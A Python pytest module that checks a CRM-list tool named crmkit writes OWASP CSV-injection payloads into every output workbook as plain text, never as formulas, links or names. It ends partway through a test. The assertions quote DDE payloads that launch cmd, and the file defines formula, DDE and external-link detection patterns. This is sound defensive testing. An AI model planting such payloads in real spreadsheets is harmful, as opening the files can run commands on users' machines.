"""Issue 7: no formula ever reaches an output.

Every payload of the OWASP CSV-injection list (tests/data/owasp_payloads.txt) is written, from
an .xlsx and from a .csv list, into every kind of column (姓名, 手机号码, 标签, 公司, 邮箱, 备注 and
an unmapped column whose header is the payload too), and crmkit is run so that it writes every
output: upload.xlsx or its batches, overflow.xlsx, errors.xlsx (概要, 问题明细, 待修正, 重复), the
annotated copy and report.json, with the fast writer (rustpy-xlsxwriter) and with xlsxwriter.
A template whose headers, options and tags are payloads gives the blank workbook and an upload
whose header row holds them. Every .xlsx written is then read three ways:

(a) its worksheet XML parts hold no formula element (<f>) and no formula-result cell (t="str");
(b) openpyxl finds no formula cell, and each cell holding a payload is a text cell with the
    payload's exact text (as crmkit keeps it: trimmed where it trims, the tags split);
(c) no hyperlink, defined name, data validation or external link carries a payload: the only
    formulas allowed are crmkit's own references to a range (a dropdown's list, a filter).

The 4 validate runs (each pair of input, writer, and upload.xlsx or batches) happen once each,
the first time a test needs them, so each payload can have its own test: a failure names the
payload (by its line in the payload file), the output file, the sheet, the cell and its column.
Real formulas in the user's workbook, and payloads as the list's file and sheet names, have
tests of their own.
"""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from openpyxl.utils import get_column_letter
from openpyxl.utils.escape import unescape
from openpyxl.worksheet.formula import ArrayFormula, DataTableFormula
from typer.testing import CliRunner

from crmkit import writers
from crmkit.cli import app
from crmkit.errors_summary import DUPLICATES_SHEET, FIX_SHEET, ISSUES_SHEET
from crmkit.fast_writer import WRITER_ENV
from crmkit.header_match import normalise_header
from crmkit.headers import SOURCE_ROW_HEADER
from crmkit.template import spelling_key

from conftest import DATA, HEADER, write_csv, write_xlsx

runner = CliRunner(env={"COLUMNS": "200", "NO_COLOR": "1"})

PAYLOAD_FILE = DATA / "owasp_payloads.txt"
#: the escapes of the payload file: \t \r \n and \\ (any other backslash is literal)
_ESCAPES = {"\\": "\\", "t": "\t", "r": "\r", "n": "\n"}
#: the maxima of 姓名 and 公司 in the shipped dingtalk-external-contact template: a payload
#: longer than 姓名's is not put in the name of the rows meant to be uploaded
NAME_MAX, COMPANY_MAX = 64, 128
#: upload rows per batch file in the runs with --batch-size (3 files for the list's rows)
BATCH_SIZE = 25
#: the upload's sheet, from the shipped template
UPLOAD_SHEET = "外部联系人"
#: what splits a tags cell (README: , ， 、 ; ； | and line breaks); the upload joins with ","
_TAG_SEPARATORS = re.compile(r"[,，、;；|\r\n]+")
#: what a tag name in a template cannot hold (it splits tags, or joins a group and its tag)
_NOT_IN_TAG = set(",，、;；|\r\n:/：／")


@dataclass(frozen=True)
class Payload:
    line: int  # its line in the payload file, which names it in test ids and failures
    text: str

    @property
    def label(self) -> str:
        shown = repr(self.text)[1:-1]
        return f"L{self.line}:{shown if len(shown) <= 40 else shown[:39] + '…'}"


def _decode(raw: str) -> str:
    return re.sub(r"\\([\\trn])", lambda m: _ESCAPES[m.group(1)], raw)


def load_payloads() -> list[Payload]:
    lines = PAYLOAD_FILE.read_text(encoding="utf-8").splitlines()
    return [Payload(n, _decode(line)) for n, line in enumerate(lines, start=1)
            if line and not line.startswith("#")]


PAYLOADS = load_payloads()
N = len(PAYLOADS)


# --- what crmkit is expected to write for a payload ---------------------------------------------


def read_as(text: str, source: str) -> str:
    """The cell as crmkit reads it: a CSV's Excel text quoting ="..." is unwrapped (README)."""
    if source == "csv":
        quoted = re.fullmatch(r'="(.*)"', text, re.DOTALL)
        if quoted:
            return quoted.group(1)
    return text


def cleaned(text: str) -> str:
    """The text crmkit uploads and shows as a header: trimmed (the payload file's test checks
    that no payload holds the invisible characters or wide spaces crmkit also removes)."""
    return text.strip()


def tags_of(text: str) -> str:
    """A tags cell as uploaded: split, trimmed, without empty or repeated tags, joined by ","."""
    tags = (t.strip() for t in _TAG_SEPARATORS.split(text))
    return ",".join(dict.fromkeys(t for t in tags if t))


# --- the customer list ---------------------------------------------------------------------------

#: the rows of each payload, in this order in the list, each kind a block of N rows: a valid row
#: (uploaded), a valid copy of it with another number (beyond --limit N: overflow.xlsx), a row
#: with the payload in every column (rejected: 待修正) and a copy of the first row's number (重复)
KINDS = ("upload", "overflow", "reject", "duplicate")


def row_of(kind: str, i: int) -> int:
    """The list's row number (the header is row 1) of payload `i`'s row of `kind`."""
    return 2 + KINDS.index(kind) * N + i


def upload_phone(i: int) -> str:
    return f"1380013{i:04d}"


def overflow_phone(i: int) -> str:
    return f"1390013{i:04d}"


def valid_name(p: Payload, i: int) -> str:
    return p.text if len(cleaned(p.text)) <= NAME_MAX else f"客户{i}"


def valid_tags(p: Payload) -> str:
    return p.text if tags_of(p.text) else "VIP"


def customer_rows() -> list[list[str]]:
    """HEADER (姓名 手机号码 标签 公司 邮箱 备注), then one unmapped column per payload, headed by
    it; then the blocks of KINDS."""
    extras = [p.text for p in PAYLOADS]
    rows: list[list[str]] = [[*HEADER, *extras]]
    blocks: dict[str, list[list[str]]] = {kind: [] for kind in KINDS}
    for i, p in enumerate(PAYLOADS):
        t, everywhere = p.text, [p.text] * N
        name, tags = valid_name(p, i), valid_tags(p)
        blocks["upload"].append([name, upload_phone(i), tags, t, "", t, *everywhere])
        blocks["overflow"].append([name, overflow_phone(i), tags, t, "", t, *everywhere])
        blocks["reject"].append([t, t, t, t, t, t, *everywhere])
        blocks["duplicate"].append([t, upload_phone(i), t, t, t, t, *everywhere])
    for kind in KINDS:
        rows += blocks[kind]
    return rows


# --- runs ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Scenario:
    source: str  # "xlsx" or "csv"
    writer: str  # "fast" (rustpy-xlsxwriter) or "xlsxwriter"
    batches: bool  # --batch-size: upload-001.xlsx... instead of upload.xlsx

    @property
    def id(self) -> str:
        return f"{self.source}-{self.writer}-{'batches' if self.batches else 'upload'}"


#: every pair of input x writer, writer x layout and input x layout, in 4 runs rather than 8
#: (the writer writes the upload files only; errors.xlsx is xlsxwriter's either way)
SCENARIOS = [Scenario("xlsx", "fast", True), Scenario("xlsx", "xlsxwriter", False),
             Scenario("csv", "fast", False), Scenario("csv", "xlsxwriter", True)]


@dataclass
class Run:
    scenario: Scenario
    source: Path
    out: Path
    report: dict[str, Any]
    books: dict[str, Any]  # file name -> openpyxl workbook, for every .xlsx written
    fast: list[str]  # the files rustpy-xlsxwriter wrote
    index: Index | None = None  # built by index_of

    def kind_of(self, name: str) -> str:
        if name == "upload.xlsx" or re.fullmatch(r"upload-\d{3,}\.xlsx", name):
            return "upload"
        if name.endswith(".annotated.xlsx"):
            return "annotated"
        return name.removesuffix(".xlsx")

    def files(self, kind: str) -> list[str]:
        return sorted(name for name in self.books if self.kind_of(name) == kind)


def load_books(out: Path) -> dict[str, Any]:
    return {path.name: openpyxl.load_workbook(path) for path in sorted(out.glob("*.xlsx"))}


def invoke(args: Sequence[str], writer: str, expected_exit: int) -> list[str]:
    """`crmkit ARGS` with `writer` writing the upload files; the names of the files
    rustpy-xlsxwriter wrote (so a "fast" run that quietly fell back to xlsxwriter shows)."""
    if writer == "fast":
        pytest.importorskip("rustpy_xlsxwriter")
    fast: list[str] = []
    real = writers.write_fast

    def spy(path: Path, *args: Any, **kwargs: Any) -> bool:
        done = bool(real(path, *args, **kwargs))
        if done:
            fast.append(Path(kwargs.get("shown") or path).name)
        return done

    with pytest.MonkeyPatch.context() as mp:
        if writer == "fast":
            mp.delenv(WRITER_ENV, raising=False)
        else:
            mp.setenv(WRITER_ENV, "xlsxwriter")
        mp.setattr(writers, "write_fast", spy)
        result = runner.invoke(app, list(args))
    assert result.exit_code == expected_exit, (result.exit_code, result.output, result.exception)
    return fast


def validate_run(scenario: Scenario, folder: Path) -> Run:
    rows = customer_rows()
    source = folder / f"customers.{scenario.source}"
    if scenario.source == "xlsx":
        write_xlsx(source, rows)
    else:
        write_csv(source, rows)
    out = folder / "out"
    args = ["validate", str(source), "--out", str(out), "--limit", str(N), "--annotate", "-q"]
    if scenario.batches:
        args += ["--batch-size", str(BATCH_SIZE)]
    # rows are rejected and the limit is exceeded: exit 1
    fast = invoke(args, scenario.writer, expected_exit=1)
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    return Run(scenario, source, out, report, load_books(out), fast)


@pytest.fixture(scope="module")
def validated(tmp_path_factory: pytest.TempPathFactory) -> Callable[[Scenario], Run]:
    """Each scenario's run, made the first time a test asks for it (inside that test, so
    conftest's autouse fixtures apply to it) and kept for the module; a run that failed fails
    the other tests of its scenario at once instead of running again."""
    runs: dict[Scenario, Run | Exception] = {}

    def get(scenario: Scenario) -> Run:
        if scenario not in runs:
            try:
                runs[scenario] = validate_run(scenario, tmp_path_factory.mktemp(scenario.id))
            except Exception as exc:
                runs[scenario] = exc
                raise
        run = runs[scenario]
        if isinstance(run, Exception):
            pytest.fail(f"the {scenario.id} run failed: {run!r}")
        return run

    return get


# --- (a) and (c): what a workbook holds besides its cells ---------------------------------------

#: a formula element in a worksheet part, with or without a namespace prefix (<f>, <x:f t=...>)
_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s/>]")
#: a cell whose type is a formula's string result
_FORMULA_RESULT = re.compile(rb"""<(?:\w+:)?c\s[^>]*\bt=["']str["']""")
_DEFINED_NAME = re.compile(rb"<(?:\w+:)?definedName\b[^>]*>(.*?)</(?:\w+:)?definedName>", re.S)
_VALIDATION_FORMULA = re.compile(rb"<(?:\w+:)?formula[12]>(.*?)</(?:\w+:)?formula[12]>", re.S)
#: the only formulas allowed anywhere: a plain reference to a range on a sheet (a dropdown's
#: list, an autofilter's range), never a function call or a payload
_REFERENCE = re.compile(
    r"=?(?:'(?:[^']|'')+'|[^\s'!()\"=+\-@]+)!\$?[A-Z]{1,3}\$?\d+(?::\$?[A-Z]{1,3}\$?\d+)?"
)
_WORKSHEET_PART = re.compile(r"xl/(?:worksheets|chartsheets)/[^/]+\.xml")
_LINK_PARTS = ("xl/externalLinks/", "xl/connections.xml", "xl/queryTables/")


def _payload_named(text: str) -> str:
    """The payload `text` is (or, trimmed or inside a formula, holds), to name in a failure."""
    for match in (lambda p: p.text == text, lambda p: cleaned(p.text) == text.lstrip("="),
                  lambda p: cleaned(p.text).lstrip("=") in text):
        named = [p.label for p in PAYLOADS if match(p)]
        if named:
            return "payload " + " or ".join(named[:3])
    return "not a payload of the list"


def _xml_text(raw: bytes) -> str:
    text = raw.decode("utf-8", "replace")
    for entity, char in (("&quot;", '"'), ("&apos;", "'"), ("&lt;", "<"), ("&gt;", ">"),
                         ("&amp;", "&")):
        text = text.replace(entity, char)
    return text


_CELL = re.compile(rb"<(?:\w+:)?c\b([^>]*?)(?:/>|>(.*?)</(?:\w+:)?c>)", re.S)
_FORMULA_TEXT = re.compile(rb"<(?:\w+:)?f\b[^>]*?(?:/>|>(.*?)</(?:\w+:)?f>)", re.S)
_CELL_REF = re.compile(rb"""\br=["']([A-Z]+\d+)["']""")


def _worksheet_findings(name: str, data: bytes) -> list[str]:
    found = []
    for cell in _CELL.finditer(data):
        attributes, body = cell[1], cell[2] or b""
        ref = _CELL_REF.search(attributes)
        where = f"{name} cell {ref[1].decode() if ref else '?'}"
        formula = _FORMULA_TEXT.search(body)
        if formula is not None:
            text = _xml_text(formula[1] or b"")
            found.append(f"{where}: formula element <f>{text}</f> "
                         f"({_payload_named('=' + text)})")
        if re.search(rb"""\bt=["']str["']""", attributes):
            found.append(f"{where}: typed as a formula's string result (t=\"str\")")
    if not found and _FORMULA_ELEMENT.search(data):
        found.append(f"{name}: a formula element <f> outside any cell")
    if re.search(rb"<(?:\w+:)?hyperlink\b", data):
        found.append(f"{name}: holds <hyperlink> elements")
    for m in _VALIDATION_FORMULA.finditer(data):
        text = _xml_text(m[1])
        if not _REFERENCE.fullmatch(text):
            found.append(f"{name}: data validation formula {text!r} ({_payload_named(text)})")
    if re.search(rb"<(?:\w+:)?cfRule\b", data):
        found.append(f"{name}: holds conditional formatting rules")
    return found


def part_findings(path: Path) -> list[str]:
    """(a) and (c) from the package itself: formula elements and formula-result cells in the
    worksheets, hyperlinks, external links and DDE, defined names and dropdown formulas that
    are not plain range references."""
    found = []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            data = package.read(name)
            if _WORKSHEET_PART.fullmatch(name):
                found += _worksheet_findings(f"{path.name} {name}", data)
            if name.endswith(".rels") and re.search(rb"/hyperlink[\"']", data):
                found.append(f"{path.name} {name}: a hyperlink relationship")
            if name.startswith(_LINK_PARTS) or re.search(rb"<(?:\w+:)?(?:ddeLink|oleLink)\b",
                                                          data):
                found.append(f"{path.name} {name}: an external link, DDE or data connection")
            if name == "xl/workbook.xml":
                for m in _DEFINED_NAME.finditer(data):
                    if not _REFERENCE.fullmatch(_xml_text(m[1])):
                        found.append(f"{path.name} {name}: defined name {_xml_text(m[0])!r} "
                                     f"({_payload_named(_xml_text(m[1]))})")
    return found


def cell_findings(name: str, book: Any) -> list[str]:
    """(b) and (c) as openpyxl reads the file: no formula cell, no hyperlink, no defined name or
    data validation that is more than a range reference."""
    found = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                where = f"{name} {ws.title}!{cell.coordinate}"
                value = cell.value
                if cell.data_type == "f" or isinstance(value, (ArrayFormula, DataTableFormula)):
                    text = value.text if isinstance(value, ArrayFormula) else str(value)
                    found.append(f"{where}: a formula cell {text!r} ({_payload_named(text)})")
                if cell.hyperlink is not None:
                    found.append(f"{where}: a hyperlink to {cell.hyperlink.target!r}")
        for dv in ws.data_validations.dataValidation:
            for formula in (dv.formula1, dv.formula2):
                if formula is not None and not _REFERENCE.fullmatch(formula):
                    found.append(f"{name} {ws.title}: data validation {formula!r} "
                                 f"({_payload_named(formula)})")
        for defined in ws.defined_names.values():
            if not _REFERENCE.fullmatch(defined.attr_text or ""):
                found.append(f"{name} {ws.title}: defined name {defined.name}="
                             f"{defined.attr_text!r}")
    for defined in book.defined_names.values():
        if not _REFERENCE.fullmatch(defined.attr_text or ""):
            found.append(f"{name}: defined name {defined.name}={defined.attr_text!r}")
    return found


def no_formula_findings(path: Path, book: Any) -> list[str]:
    """Everything (a), (b) and (c) find in the workbook at `path` (`book`: it, opened)."""
    return part_findings(path) + cell_findings(path.name, book)


def listing(found: Sequence[str], limit: int = 40) -> str:
    """The findings for an assertion message: the first `limit`, and how many more."""
    more = f"\n... and {len(found) - limit} more" if len(found) > limit else ""
    return "\n".join(found[:limit]) + more


# --- (b): where each payload's cells are --------------------------------------------------------


def text_of(cell: Any) -> Any:
    """A cell's value as Excel shows it: openpyxl leaves OOXML escapes (_x000D_ for a carriage
    return) in the strings it reads."""
    return unescape(cell.value) if isinstance(cell.value, str) else cell.value


class Checker:
    """Collects, for one payload, every cell that should hold its text and is not a text cell
    with that exact text."""

    def __init__(self) -> None:
        self.failures: list[str] = []
        self.checked = 0

    def cell(self, where: str, column: str, cell: Any, expected: str | set[str]) -> None:
        """`expected`: the text, or the texts crmkit may keep (a template's text, trimmed or
        not)."""
        self.checked += 1
        value = text_of(cell)
        allowed = {expected} if isinstance(expected, str) else expected
        if cell.data_type != "s" or value not in allowed:
            shown = " or ".join(map(repr, sorted(allowed)))
            self.failures.append(
                f"{where}!{cell.coordinate} ({column}): data_type {cell.data_type!r}, value "
                f"{value!r}; expected a text cell {shown}")

    def missing(self, what: str) -> None:
        self.failures.append(f"not found: {what}")


def header_row(ws: Any) -> list[Any]:
    return [text_of(c) for c in next(ws.iter_rows(min_row=1, max_row=1))]


def rows_by(ws: Any, column: str) -> dict[Any, tuple[Any, ...]]:
    """The data rows of `ws` by their value in the column headed `column`."""
    index = header_row(ws).index(column)
    return {text_of(row[index]): row for row in ws.iter_rows(min_row=2) if len(row) > index}


@dataclass
class Index:
    """One run's outputs by row: the upload files' rows by phone number (with the file and its
    headers), errors.xlsx's 待修正 and 重复 rows by their source row, its issues by row."""

    phone: dict[Any, tuple[str, tuple[Any, ...], list[Any]]]
    fix: dict[Any, tuple[Any, ...]]
    fix_header: list[Any]
    duplicates: dict[Any, tuple[Any, ...]]
    issues: dict[Any, list[tuple[Any, ...]]]


def index_of(run: Run) -> Index:
    if run.index is None:
        by_phone = {}
        for name in run.files("upload") + run.files("overflow"):
            ws = run.books[name][UPLOAD_SHEET]
            headers = header_row(ws)
            for phone, row in rows_by(ws, "手机号码").items():
                by_phone[phone] = (name, row, headers)
        errors = run.books["errors.xlsx"]
        issues: dict[Any, list[tuple[Any, ...]]] = {}
        for row in errors[ISSUES_SHEET].iter_rows(min_row=2):
            issues.setdefault(text_of(row[1]), []).append(row)
        run.index = Index(
            phone=by_phone, fix=rows_by(errors[FIX_SHEET], SOURCE_ROW_HEADER),
            fix_header=header_row(errors[FIX_SHEET]),
            duplicates=rows_by(errors[DUPLICATES_SHEET], SOURCE_ROW_HEADER), issues=issues,
        )
    return run.index


# --- the payload list ----------------------------------------------------------------------------


def test_payload_file_holds_the_owasp_list() -> None:
    texts = [p.text for p in PAYLOADS]
    assert len(texts) >= 50 and len(set(texts)) == len(texts)
    # OWASP's attack examples and the characters it says start a formula, ASCII and full-width
    assert {"=cmd|' /C calc'!A0", 'DDE ("cmd";"/C calc";"!A0")A0',
            "@SUM(1+1)*cmd|' /C calc'!A0", '="=1+1"', "'=1+1"} <= set(texts)
    assert set("=+-@\t\r\n＝＋－＠") <= {t[0] for t in texts}
    assert any("\\\\" in t for t in texts)  # \\\\ in the file is two backslashes
    for p in PAYLOADS:
        assert p.text.strip(), p.label
        assert len(p.text) <= COMPANY_MAX, f"{p.label}: longer than 公司's {COMPANY_MAX}"
        # cleaned() models crmkit's trimming only: none of what else it removes may be here
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u00a0\u00ad\u1680\u180e"
                             r"\u2000-\u200f\u202f\u205f\u2060-\u2064\u3000\ufeff]", p.text), \
            p.label


# --- the validate runs ---------------------------------------------------------------------------


@pytest.mark.parametrize("scenario", SCENARIOS, ids=lambda s: s.id)
def test_every_output_is_written(
    scenario: Scenario, validated: Callable[[Scenario], Run]
) -> None:
    run = validated(scenario)
    uploads = ([f"upload-{i:03d}.xlsx" for i in range(1, -(-N // BATCH_SIZE) + 1)]
               if scenario.batches else ["upload.xlsx"])
    annotated = ["customers.annotated.xlsx"] if scenario.source == "xlsx" else []
    # no .csv (or other) output: a new output must be added to this test's checks first
    assert sorted(p.name for p in run.out.iterdir()) == sorted(
        [*uploads, "overflow.xlsx", "errors.xlsx", "report.json", *annotated])
    rows = run.report["rows"]
    assert (rows["read"], rows["valid"], rows["overflow"]) == (4 * N, N, N), rows
    assert sum(b["rows"] for b in run.report["batches"]) == N
    assert set(run.books["errors.xlsx"].sheetnames) >= {ISSUES_SHEET, FIX_SHEET,
                                                        DUPLICATES_SHEET}
    by_fast_writer = [*uploads, "overflow.xlsx"] if scenario.writer == "fast" else []
    assert sorted(run.fast) == sorted(by_fast_writer)


_KINDS_WRITTEN = ("upload", "overflow", "errors", "annotated")


@pytest.mark.parametrize(("scenario", "kind"), [
    pytest.param(s, kind, id=f"{s.id}-{kind}") for s in SCENARIOS for kind in _KINDS_WRITTEN
    if not (kind == "annotated" and s.source == "csv")  # a text file is not copied
])
def test_no_formula_link_or_name_in_the_output(
    scenario: Scenario, kind: str, validated: Callable[[Scenario], Run]
) -> None:
    run = validated(scenario)
    names = run.files(kind)
    assert names, f"no {kind} file in {sorted(run.books)}"
    found = [f for name in names for f in no_formula_findings(run.out / name, run.books[name])]
    assert not found, listing(found)


@dataclass(frozen=True)
class Case:
    """One payload in one run: what the checks of its cells need."""

    run: Run
    payload: Payload
    i: int  # its position in PAYLOADS: its rows, phone numbers and column

    @property
    def read(self) -> str:
        """The payload as crmkit reads it from this run's list."""
        return read_as(self.payload.text, self.run.scenario.source)

    @property
    def column(self) -> int:
        """Its own column in the list (1-based), headed by it."""
        return len(HEADER) + 1 + self.i


def check_uploads(case: Case, check: Checker) -> None:
    """upload.xlsx or upload-NNN.xlsx, and overflow.xlsx: the valid row and its copy beyond the
    limit, normalised (trimmed, the tags split and joined)."""
    index, p, i = index_of(case.run), case.payload, case.i
    source = case.run.scenario.source
    for phone, kind in ((upload_phone(i), "upload"), (overflow_phone(i), "overflow")):
        if phone not in index.phone:
            check.missing(f"the {kind} row (phone {phone}) in the upload files and overflow")
            continue
        name, row, headers = index.phone[phone]
        if case.run.kind_of(name) != kind:
            check.missing(f"the {kind} row (phone {phone}) in a {kind} file: it is in {name}")
        expected = {"标签": tags_of(read_as(valid_tags(p), source)),
                    "公司": cleaned(case.read), "备注": cleaned(case.read)}
        if valid_name(p, i) == p.text:
            expected["姓名"] = cleaned(case.read)
        for column, text in expected.items():
            check.cell(f"{name} {UPLOAD_SHEET}", column, row[headers.index(column)], text)


def check_errors_rows(case: Case, check: Checker) -> None:
    """errors.xlsx 待修正 (the rejected row: the payload as read in every column, its column
    headed by it) and 重复 (the copy of the upload row's number, and that kept row)."""
    index, p, i = index_of(case.run), case.payload, case.i
    source = case.run.scenario.source
    columns = index.fix_header[:len(HEADER) + N]
    where = f"errors.xlsx {FIX_SHEET}"
    header_cell = next(case.run.books["errors.xlsx"][FIX_SHEET].iter_rows(max_row=1))
    check.cell(where, "header", header_cell[case.column - 1], cleaned(case.read))
    fixed = index.fix.get(row_of("reject", i))
    if fixed is None:
        check.missing(f"{where}: the rejected row {row_of('reject', i)}")
    else:
        for j, column in enumerate(columns):
            check.cell(where, str(column), fixed[j], case.read)

    where = f"errors.xlsx {DUPLICATES_SHEET}"
    copy = index.duplicates.get(row_of("duplicate", i))
    kept = index.duplicates.get(row_of("upload", i))
    if copy is None or kept is None:
        check.missing(f"{where}: rows {row_of('upload', i)} and {row_of('duplicate', i)}")
        return
    in_kept = {"姓名": read_as(valid_name(p, i), source), "标签": read_as(valid_tags(p), source)}
    for j, column in enumerate(columns):
        if column != "手机号码":
            check.cell(where, f"{column} (copy)", copy[j], case.read)
        if column not in ("手机号码", "邮箱"):  # the kept row is valid: no email
            check.cell(where, f"{column} (kept)", kept[j], in_kept.get(column, case.read))


def check_issue_list(case: Case, check: Checker) -> None:
    """errors.xlsx 问题明细: the invalid phone number and email as read, and the header of the
    column not imported."""
    index, i = index_of(case.run), case.i
    where = f"errors.xlsx {ISSUES_SHEET}"
    codes = {"phone.invalid": 0, "email.invalid": 0}
    for issue in index.issues.get(row_of("reject", i), []):
        code = text_of(issue[5])
        if code in codes:
            codes[code] += 1
            check.cell(where, f"原始值 of {code}", issue[4], case.read)
    for code, count in codes.items():
        if not count:
            check.missing(f"{where}: the {code} issue of row {row_of('reject', i)}")
    letter = get_column_letter(case.column)
    unmapped = [r for r in index.issues.get(None, [])
                if text_of(r[5]) == "header.unmapped" and text_of(r[2]) == letter]
    if not unmapped:
        check.missing(f"{where}: header.unmapped of column {letter}")
    for issue in unmapped:
        check.cell(where, f"列名 of column {letter}", issue[3], cleaned(case.read))


def check_annotated(case: Case, check: Checker) -> None:
    """The annotated copy (of an .xlsx list): every payload cell exactly as in the user's
    file."""
    p, i = case.payload, case.i
    for name in case.run.files("annotated"):
        ws = case.run.books[name].worksheets[0]
        cells = [ws.cell(row=1, column=case.column)]
        for kind in KINDS:
            r = row_of(kind, i)
            cells += [ws.cell(row=r, column=c) for c in (3, 4, 6)]  # 标签 公司 备注
            cells += [ws.cell(row=r, column=len(HEADER) + 1 + j) for j in range(N)]
        cells += [ws.cell(row=row_of(k, i), column=c) for k in ("reject", "duplicate")
                  for c in (1, 5)]  # 姓名 邮箱
        cells.append(ws.cell(row=row_of("reject", i), column=2))  # 手机号码
        valid_rows = (row_of("upload", i), row_of("overflow", i))
        for cell in cells:
            in_file = valid_tags(p) if cell.column == 3 and cell.row in valid_rows else p.text
            header = text_of(ws.cell(row=1, column=cell.column))
            check.cell(f"{name} {ws.title}", str(header), cell, in_file)


def check_report(case: Case, check: Checker) -> None:
    """report.json: the column's header and the rejected number, as read."""
    report, i = case.run.report, case.i
    header = report["header_map"][case.column - 1]["header"]
    if header != cleaned(case.read):
        check.failures.append(f"report.json header_map[{case.column - 1}].header: {header!r}, "
                              f"expected {cleaned(case.read)!r}")
    values = [x["value"] for x in report["issues"]
              if x["row"] == row_of("reject", i) and x["code"] == "phone.invalid"]
    if values != [case.read]:
        check.failures.append(f"report.json phone.invalid value of row {row_of('reject', i)}: "
                              f"{values!r}, expected [{case.read!r}]")


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: p.label)
@pytest.mark.parametrize("scenario", SCENARIOS, ids=lambda s: s.id)
def test_payload_is_written_as_its_text(
    scenario: Scenario, payload: Payload, validated: Callable[[Scenario], Run]
) -> None:
    """Every cell that holds the payload, in every output, is a text cell with its text."""
    case = Case(validated(scenario), payload, PAYLOADS.index(payload))
    check = Checker()
    for part in (check_uploads, check_errors_rows, check_issue_list, check_annotated,
                 check_report):
        part(case, check)
    assert check.checked > 2 * N, f"only {check.checked} cells checked"
    assert not check.failures, f"payload {payload.label}:\n" + listing(check.failures)


# --- a template made of payloads: the blank workbook, and an upload headed by them --------------

#: what a tag group's name cannot hold (it joins a group and its tag in a cell)
_NOT_IN_GROUP = set(":/：／")
SAFE_TAG = "普通客户"


def template_buckets() -> list[list[Payload]]:
    """The payloads in groups that one template can hold: no two in a group that crmkit would
    take for one header, or for one option or tag (crmkit's own comparison keys): `template
    check` refuses such pairs, and that rule is not what these tests are about."""
    buckets: list[tuple[set[str], list[Payload]]] = []
    for p in PAYLOADS:
        keys = {"h:" + normalise_header(p.text), "o:" + spelling_key(p.text)}
        for taken, members in buckets:
            if not keys & taken:
                taken |= keys
                members.append(p)
                break
        else:
            buckets.append((keys, [p]))
    return [members for _, members in buckets]


BUCKETS = template_buckets()


def _toml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a TOML basic string


def allowed_tags(bucket: Sequence[Payload]) -> list[str]:
    return [p.text for p in bucket if not set(p.text) & _NOT_IN_TAG]


def payload_template(bucket: Sequence[Payload], number: int, path: Path) -> Path:
    """A template derived from the default one: each payload a text field's header, help and
    default, an option of the choice field 级别 and, where a tag can be, a tag; the title,
    description and the tag group's name payloads too."""
    group = next((p.text for p in bucket if not set(p.text) & _NOT_IN_GROUP), "注入")
    lines = [
        "format_version = 1", 'extends = "dingtalk-external-contact"',
        f'name = "injection-{number}"', f"title = {_toml(bucket[0].text)}",
        'version = "1.0.0"', f"description = {_toml(bucket[-1].text)}", "",
    ]
    for p in bucket:
        lines += ["[[fields]]", f'key = "payload_{p.line}"', f"header = {_toml(p.text)}",
                  f"help = {_toml(p.text)}", f"default = {_toml(p.text)}", ""]
    options = ", ".join(f"{{ value = {_toml(p.text)} }}" for p in bucket)
    lines += ["[[fields]]", 'key = "level"', 'header = "级别"', 'type = "choice"',
              f"options = [{options}]", ""]
    tags = ", ".join(_toml(t) for t in [*allowed_tags(bucket), SAFE_TAG])
    lines += ["[[tag_groups]]", f"name = {_toml(group)}", "exclusive = false",
              f"tags = [{tags}]", ""]
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def _bucket_id(number: int) -> str:
    bucket = BUCKETS[number]
    return f"template{number}-L{bucket[0].line}..L{bucket[-1].line}"


def as_kept(text: str) -> set[str]:
    """A template's text as crmkit may write it: as written, or trimmed."""
    return {text, cleaned(text)}


def column_cells(ws: Any, header: str) -> list[Any]:
    """The cells under the header `header` (row 1) of `ws`."""
    for column in ws.iter_cols(min_row=1):
        if text_of(column[0]) == header:
            return [c for c in column[1:] if c.value is not None]
    raise AssertionError(f"no column {header!r} in {ws.title}")


@pytest.mark.parametrize("number", range(len(BUCKETS)), ids=_bucket_id)
def test_blank_workbook_keeps_template_payloads_as_text(number: int, tmp_path: Path) -> None:
    bucket = BUCKETS[number]
    template = payload_template(bucket, number, tmp_path / "injection.toml")
    target = tmp_path / "blank.xlsx"
    invoke(["template", "excel", str(template), "--out", str(target)], "xlsxwriter", 0)
    book = openpyxl.load_workbook(target)
    found = no_formula_findings(target, book)  # the dropdowns' lists are plain ranges
    check = Checker()
    data, guide, options = book.worksheets[0], book["填写说明"], book["选项"]
    headers = {text_of(c): c for c in next(data.iter_rows(max_row=1))}
    titles = {text_of(c): c for c in guide["A"] if isinstance(c.value, str)}
    for p in bucket:
        for where, by_text in ((f"blank.xlsx {data.title}", headers),
                               ("blank.xlsx 填写说明", titles)):
            cell = next((by_text[t] for t in as_kept(p.text) if t in by_text), None)
            if cell is None:
                check.missing(f"{where}: the header {p.label}")
            else:
                check.cell(where, f"header {p.label}", cell, as_kept(p.text))
    wanted = {"级别": [p.text for p in bucket], "标签": [*allowed_tags(bucket), SAFE_TAG]}
    for header, values in wanted.items():
        cells = column_cells(options, header)
        if len(cells) != len(values):
            check.missing(f"blank.xlsx 选项 {header}: {len(values)} values, found {len(cells)}")
        for cell, value in zip(cells, values, strict=False):  # a count apart is reported
            check.cell("blank.xlsx 选项", header, cell, as_kept(value))
    title = guide["A1"]
    if title.data_type != "s" or not text_of(title).startswith(tuple(as_kept(bucket[0].text))):
        check.failures.append(f"blank.xlsx 填写说明!A1: {title.data_type} {title.value!r}")
    assert not found + check.failures, listing(found + check.failures)


@pytest.mark.parametrize("writer", ["fast", "xlsxwriter"])
@pytest.mark.parametrize("number", range(len(BUCKETS)), ids=_bucket_id)
def test_upload_headed_by_template_payloads_keeps_them_as_text(
    number: int, writer: str, tmp_path: Path
) -> None:
    """The upload's header row is the template's headers: with the fast writer a DataFrame's
    column names, a path of its own."""
    bucket = BUCKETS[number]
    template = payload_template(bucket, number, tmp_path / "injection.toml")
    tags = set(allowed_tags(bucket))
    rows: list[list[str]] = [["姓名", "手机号码", "标签", "级别", *(p.text for p in bucket)]]
